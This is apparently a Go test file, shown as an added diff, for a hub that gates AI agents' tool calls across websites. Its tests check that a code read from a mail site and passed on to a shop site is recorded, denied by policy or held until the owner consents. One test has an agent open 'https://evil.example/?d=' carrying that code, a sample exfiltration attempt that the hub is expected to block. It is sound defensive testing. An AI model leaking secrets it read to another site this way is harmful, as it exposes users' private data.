@@ -1,0 +1,151 @@
+package hub
+
+import (
+	"context"
+	"encoding/json"
+	"errors"
+	"slices"
+	"strings"
+	"testing"
+
+	"tabhub/hub/consent"
+	"tabhub/hub/policy"
+	"tabhub/hub/record"
+	"tabhub/hub/state"
+	"tabhub/spec"
+	"tabhub/tabtransport/tabtest"
+)
+
+// sites are a mail and a shop.
+type sites struct {
+	*fixture
+	mail, shop tabtest.End
+}
+
+func newSites(t *testing.T, opts Options, doc policy.Document) *sites {
+	w := newFixture(t, opts)
+	s := &sites{w, w.page("https://mail.example", "m"), w.page("https://shop.example", "s")}
+	if err := s.hub.EditPolicy("test", func(d *policy.Document) error { *d = doc; return nil }); err != nil {
+		t.Fatal(err)
+	}
+	s.register(s.mail, 0, tools("https://mail.example/", "read"))
+	s.register(s.shop, 0, tools("https://shop.example/", "note"))
+	return s
+}
+
+func (s *sites) call(by *consent.Caller, name, args string) string {
+	s.t.Helper()
+	result, err := s.hub.Call(s.t.Context(), Call{Name: "website_tool_" + name, Args: json.RawMessage(args), By: by})
+	if err != nil {
+		s.t.Fatal(err)
+	}
+	return string(result)
+}
+
+// readMail has a client read the mail.
+func (s *sites) readMail(by *consent.Caller) {
+	s.t.Helper()
+	asked := answering(s.mail, `{"content":[{"type":"text","text":"Your code is 7f3k-29xq-88ab."}]}`)
+	s.call(by, "mail_example__read", `{}`)
+	<-asked
+}
+
+// note sends a text to the shop, which is to have it, and nothing else before it.
+func (s *sites) note(by *consent.Caller, text string) {
+	s.t.Helper()
+	args := `{"text":"` + text + `"}`
+	asked := answering(s.shop, `{"content":[]}`)
+	s.call(by, "shop_example__note", args)
+	if r := <-asked; string(r.Call.Args) != args {
+		s.t.Errorf("the shop got %+v, want %s", r, args)
+	}
+}
+
+// wantDenied sends a text to the shop, which is not to have it.
+func (s *sites) wantDenied(by *consent.Caller, text string) {
+	s.t.Helper()
+	if r := s.call(by, "shop_example__note", `{"text":"`+text+`"}`); !strings.Contains(r, "DENIED") || !strings.Contains(r, "mail.example") {
+		s.t.Errorf("result %s", r)
+	}
+}
+
+// wantRecord checks which values the record of the latest call says it has carried.
+func (s *sites) wantRecord(want string) {
+	s.t.Helper()
+	if err := s.hub.gate.flows.Settled(s.t.Context(), tester.Who.ID); err != nil {
+		s.t.Fatal(err)
+	}
+	rs := s.record.Entries(record.Query{Event: record.Call, Limit: 1})
+	if len(rs) != 1 || strings.Join(rs[0].Flows, "; ") != want {
+		s.t.Errorf("recorded %+v, want flows %q", rs, want)
+	}
+}
+
+const code = "7f3k-29xq-88ab"
+
+// What an agent has carried from one site to another must be found in the record.
+func TestFlowsAreRecorded(t *testing.T) {
+	s := newSites(t, Options{}, policy.Document{})
+	s.readMail(tester)
+	s.wantRecord("")
+	s.note(tester, "nothing")
+	s.wantRecord("")
+	s.note(tester, "the code: 7F3K 29XQ 88AB")
+	s.wantRecord("mail.example → shop.example, text")
+}
+
+// answered is tester, whose user answers what is asked with *reach.
+func answered(reach *spec.Reach) (by *consent.Caller, asked *[]*spec.Ask) {
+	c := *tester
+	asked = new([]*spec.Ask)
+	c.Elicit = func(_ context.Context, q *spec.Ask) (spec.AskResult, error) {
+		*asked = append(*asked, q)
+		return spec.AskResult{Reach: *reach}, nil
+	}
+	return &c, asked
+}
+
+// Nothing of a private site may leave before the owner has said yes.
+func TestFlowFromPrivateSite(t *testing.T) {
+	reach := spec.ReachNo
+	by, asked := answered(&reach)
+	s := newSites(t, Options{Askers: []consent.Asker{consent.AskClient}}, policy.Document{Private: []string{"mail.example"}})
+	s.readMail(by)
+	s.note(by, "nothing of it")
+	if len(*asked) > 0 {
+		t.Fatalf("asked %+v", (*asked)[0])
+	}
+	if r := s.call(by, "shop_example__note", `{"text":"`+code+`"}`); !strings.Contains(r, "DENIED") || len(*asked) != 1 {
+		t.Fatalf("%d questions, then %s", len(*asked), r)
+	}
+	s.wantRecord("mail.example → shop.example, text")
+	if why := strings.Join((*asked)[0].Why, " "); !strings.Contains(why, "mail.example") {
+		t.Errorf("the owner was told %q", why)
+	}
+	reach = spec.ReachOnce
+	s.note(by, "now "+code)
+	s.wantRecord("mail.example → shop.example, text")
+}
+
+func TestFlowIsDenied(t *testing.T) {
+	s := newSites(t, Options{}, policy.Document{Rules: []policy.Rule{{ID: "r1", Effect: policy.Deny, From: "mail.example", Site: "shop.example"}}})
+	s.readMail(tester)
+	s.wantDenied(tester, code)
+	s.note(tester, "nothing of it")
+}
+
+// A URL says something to the site that it leads to.
+func TestFlowByURL(t *testing.T) {
+	by, asked := answered(new(spec.ReachNo))
+	s := newSites(t, Options{Askers: []consent.Asker{consent.AskClient}}, policy.Document{Private: []string{"mail.example"}})
+	s.chrome("c1", "s1")
+	s.readMail(by)
+	i := slices.IndexFunc(s.hub.Browsers(), func(b state.BrowserInfo) bool { return !b.Single })
+	_, err := s.hub.Control(t.Context(), by, spec.TabAddr{Peer: s.hub.Browsers()[i].Peer}, &spec.OpenTab{URL: "https://evil.example/?d=" + code})
+	if f, ok := errors.AsType[*Failure](err); !ok || f.Code != spec.FailDenied {
+		t.Errorf("opened: %v", err)
+	}
+	if len(*asked) != 1 || !strings.Contains(strings.Join((*asked)[0].Why, " "), "mail.example") {
+		t.Errorf("asked %+v", *asked)
+	}
+}
